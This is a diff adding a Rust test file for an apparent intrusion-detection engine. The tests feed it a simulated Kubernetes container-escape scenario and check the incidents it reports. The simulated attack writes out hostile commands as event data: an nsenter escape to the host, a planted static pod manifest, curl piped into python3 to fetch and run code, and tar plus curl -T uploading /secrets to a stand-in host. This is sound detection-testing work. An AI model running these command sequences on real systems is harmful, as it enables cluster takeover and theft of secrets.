@@ -1,0 +1,192 @@
+//! Stories, and the incidents that come of them under the built-in rules.
+
+mod world;
+
+use lanner_core::detect::chain;
+use lanner_core::detect::rules::RuleSet;
+use lanner_core::detect::{Incident, LinkKind, Severity, Stage, Status, Tactic};
+use lanner_core::engine::Engine;
+use lanner_core::event::*;
+use world::{Actor, HOST, World};
+
+const WEB: &str = "/kubepods/besteffort/podfedcba98-7654-3210-fedc-ba9876543210/aaaa";
+const HIDDEN: &str = "/kubepods/besteffort/pod0123456789abcdef0123456789abcdef/bbbb";
+const MANIFEST: &str = "/etc/kubernetes/manifests/x.yaml";
+
+fn engine() -> Engine {
+    let rules = RuleSet::load(lanner_rules::RULES);
+    assert!(rules.errors.is_empty() && rules.unsupported.is_empty(), "{:?} {:?}", rules.errors, rules.unsupported);
+    let chains = lanner_rules::CHAINS.iter().flat_map(|(file, text)| chain::load(file, text).unwrap()).collect();
+    Engine::new(rules, chains)
+}
+
+fn incidents(world: &World) -> Vec<Incident> {
+    let mut engine = engine();
+    world.events.iter().for_each(|event| drop(engine.apply(event)));
+    engine.flush();
+    engine.incidents().to_vec()
+}
+
+/// The people of the node.
+struct Node {
+    world: World,
+    kubelet: Actor,
+    shim: Actor,
+    web: Actor,
+}
+
+fn node() -> Node {
+    let mut world = World::new();
+    let kubelet = world.found(None, "/usr/bin/kubelet");
+    let shim = world.found(None, "/usr/bin/containerd-shim-runc-v2");
+    let web = world.start_container(&shim, WEB, "aaaa", "/bin/httpd");
+    Node { world, kubelet, shim, web }
+}
+
+/// A shell in the web container, and out of it; the manifest is written.
+fn break_in(node: &mut Node) -> Actor {
+    let Node { world, shim, web, .. } = node;
+    let shell = world.enter(shim, web, "/bin/sh", true);
+    let mut nsenter = world.spawn(&shell, "/usr/bin/nsenter", "nsenter -t 1 -m");
+    world.setns(&mut nsenter, HOST);
+    let outside = world.spawn(&nsenter, "/bin/sh", "sh");
+    let cat = world.spawn(&outside, "/bin/cat", "cat");
+    world.write(&cat, MANIFEST, 42);
+    world.exit(&cat);
+    shell
+}
+
+fn attack() -> (World, Actor) {
+    let mut node = node();
+    let shell = break_in(&mut node);
+    let Node { mut world, kubelet, shim, .. } = node;
+    world.read(&kubelet, MANIFEST, 42);
+    world.wait(63.0);
+    let _pause = world.start_container(&shim, &HIDDEN.replace("bbbb", "cccc"), "cccc", "/pause");
+    let hidden = world.start_container(&shim, HIDDEN, "bbbb", "/bin/sh");
+    let pipe = world.pipe();
+    let mut curl = world.fork(&hidden);
+    curl.stdio[1] = pipe;
+    let mut python = world.fork(&hidden);
+    python.stdio[0] = pipe;
+    world.exec(&python, "/usr/bin/python3", "python3 -");
+    world.exec(&curl, "/usr/bin/curl", "curl http://192.0.2.9/x");
+    for _ in 0..6 {
+        world.wait(3.0);
+        let flow = world.connect(&python, "192.0.2.9:8000");
+        world.close(&python, flow, 80, 20);
+    }
+    let tar = world.spawn(&python, "/bin/tar", "tar czf /tmp/x.tgz /secrets");
+    world.write(&tar, "/tmp/x.tgz", 77);
+    world.exit(&tar);
+    let upload = world.spawn(&python, "/usr/bin/curl", "curl -T /tmp/x.tgz http://192.0.2.77");
+    world.read(&upload, "/tmp/x.tgz", 77);
+    let flow = world.connect(&upload, "192.0.2.77:80");
+    world.close(&upload, flow, 300_000, 100);
+    world.exit(&upload);
+    (world, shell)
+}
+
+fn stage(incident: &Incident, tactic: Tactic) -> &Stage {
+    incident.stages.iter().find(|s| s.tactic == tactic).unwrap_or_else(|| panic!("no {tactic}: {incident:#?}"))
+}
+
+#[test]
+fn the_reference_attack_is_one_incident() {
+    let (world, shell) = attack();
+    let incidents = incidents(&world);
+    assert_eq!(incidents.len(), 1, "{incidents:#?}");
+    let incident = &incidents[0];
+    assert_eq!(incident.name, "Container escape to hidden static pod");
+    let chain = incident.chain.as_ref().unwrap();
+    assert_eq!((chain.found, chain.steps), (8, 8), "{incident:#?}");
+    assert_eq!((incident.severity, incident.status), (Severity::Critical, Status::Ongoing));
+    assert_eq!(incident.stages[0].process.key, shell.key);
+
+    let persistence = incident.stages.iter().position(|s| s.tactic == Tactic::Persistence).unwrap();
+    let planted = stage(incident, Tactic::DefenseEvasion).link.as_ref().unwrap();
+    assert_eq!((planted.kind, planted.to_stage), (LinkKind::WroteStarted, persistence));
+    assert!(planted.why.contains(MANIFEST) && planted.why.contains("kubelet") && planted.why.contains("63 s"), "{}", planted.why);
+}
+
+#[test]
+fn nothing_but_the_attack_is_in_it() {
+    let (world, _) = attack();
+    let incident = &incidents(&world)[0];
+    let names: Vec<String> = incident.processes.iter().map(|p| p.exe.to_string()).collect();
+    for outsider in ["/usr/bin/kubelet", "/usr/bin/containerd-shim-runc-v2", "/bin/httpd"] {
+        assert!(!names.iter().any(|n| n == outsider), "{names:?}");
+    }
+    for insider in ["/usr/bin/nsenter", "/bin/cat", "/pause", "/usr/bin/python3", "/bin/tar"] {
+        assert!(names.iter().any(|n| n == insider), "{insider} is missing: {names:?}");
+    }
+    assert_eq!(incident.peers.iter().map(ToString::to_string).collect::<Vec<_>>(), ["192.0.2.9:8000", "192.0.2.77:80"]);
+    assert!(incident.files.iter().any(|f| *f == MANIFEST) && incident.files.iter().any(|f| *f == "/tmp/x.tgz"));
+}
+
+#[test]
+fn evidence_exists_and_links_lead_back() {
+    let (world, _) = attack();
+    for incident in incidents(&world) {
+        for (i, stage) in incident.stages.iter().enumerate() {
+            let all = stage.evidence.iter().chain(stage.link.iter().flat_map(|l| &l.evidence));
+            assert!(all.clone().all(|seq| (1..=world.events.len() as u64).contains(seq)), "{stage:?}");
+            assert!(all.count() > 0);
+            assert_eq!(stage.link.is_none(), i == 0, "{stage:?}");
+            assert!(stage.link.as_ref().is_none_or(|l| l.to_stage < i), "{stage:?}");
+        }
+    }
+}
+
+#[test]
+fn a_replay_is_equal() {
+    let (world, _) = attack();
+    assert_eq!(incidents(&world), incidents(&world));
+}
+
+#[test]
+fn an_admins_session_is_no_incident() {
+    let mut node = node();
+    let Node { world, shim, web, .. } = &mut node;
+    let shell = world.enter(shim, web, "/bin/sh", true);
+    world.spawn(&shell, "/bin/ls", "ls -l");
+    world.exit(&shell);
+    assert_eq!(incidents(&node.world), []);
+}
+
+#[test]
+fn an_admins_own_manifest_starts_an_honest_pod() {
+    let Node { mut world, kubelet, shim, .. } = node();
+    let admin = world.found(None, "/bin/bash");
+    let vi = world.spawn(&admin, "/usr/bin/vi", "vi x.yaml");
+    world.write(&vi, MANIFEST, 42);
+    world.read(&kubelet, MANIFEST, 42);
+    world.start_container(&shim, HIDDEN, "bbbb", "/bin/etcd");
+    assert_eq!(incidents(&world), []);
+}
+
+#[test]
+fn two_attacks_that_nothing_links_are_two_incidents() {
+    let mut node = node();
+    break_in(&mut node);
+    let Node { mut world, shim, .. } = node;
+    let other = world.start_container(&shim, &WEB.replace("fedc", "abab").replace("aaaa", "dddd"), "dddd", "/bin/httpd");
+    let mut escape = world.spawn(&other, "/usr/bin/nsenter", "nsenter -t 1 -m");
+    world.setns(&mut escape, HOST);
+    assert_eq!(incidents(&world).len(), 2);
+}
+
+#[test]
+fn it_is_over_when_its_last_process_has_ended() {
+    let mut node = node();
+    break_in(&mut node);
+    let Node { mut world, .. } = node;
+    let found = incidents(&world);
+    assert_eq!(found[0].status, Status::Ongoing);
+    let members: Vec<ProcessKey> = found[0].processes.iter().map(|p| p.key).collect();
+    for key in members {
+        let actor = Actor { key, task: Task::default(), stdio: [Stdio::default(); 3] };
+        world.exit(&actor);
+    }
+    assert_eq!(incidents(&world)[0].status, Status::Over);
+}
